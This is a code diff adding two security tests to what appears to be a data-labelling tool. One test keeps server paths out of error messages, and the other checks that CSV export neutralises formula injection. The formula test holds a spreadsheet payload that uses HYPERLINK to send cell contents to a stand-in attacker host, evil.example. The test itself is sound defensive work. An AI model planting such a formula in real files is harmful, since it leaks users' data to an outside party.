@@ -170,3 +170,38 @@ def test_imports_refuse_tasks_without_their_object(live) -> None:
     assert "/tmp" not in r.text
     assert s.list_tasks(live.users["admin"], text.id)["total"] == 0
     assert s.list_tasks(live.users["admin"], imgs.id)["total"] == 0
+
+
+def test_error_messages_do_not_show_server_paths(live) -> None:
+    import tempfile
+
+    p = live.store.create_project("leak", TEXT_CONFIG)
+    admin = live.client("admin")
+    for name, data in [
+        ("bad.parquet", b"garbage" * 10),
+        ("bad.csv", b"\xff\xfe\x00bad"),
+        ("bad.jsonl", b'{"id": 1}\n{bad'),
+    ]:
+        r = admin.post(f"/api/projects/{p.id}/import", files={"file": (name, data)})
+        assert r.status_code == 400 and name in r.json()["detail"]
+        assert tempfile.gettempdir() not in r.text and str(live.folder) not in r.text
+
+
+def test_csv_export_neutralises_formulas(live) -> None:
+    import csv
+    import io
+
+    s = live.store
+    p = s.create_project("csv", TEXT_CONFIG)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    s.add_tasks(p.id, [Item("=1+1", {"text": evil}), Item("2", {"text": "-2+3"})])
+    r = live.client("admin").get(f"/api/projects/{p.id}/export", params={"format": "csv"})
+    assert r.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
+    assert "'" + evil in cells and "'=1+1" in cells and "'-2+3" in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+    # and the file reads back to the original text
+    from labelwise.formats.csv import from_csv
+
+    back = from_csv(r.text, p.config)
+    assert [it.id for it in back] == ["=1+1", "2"] and back[0].data["text"] == evil
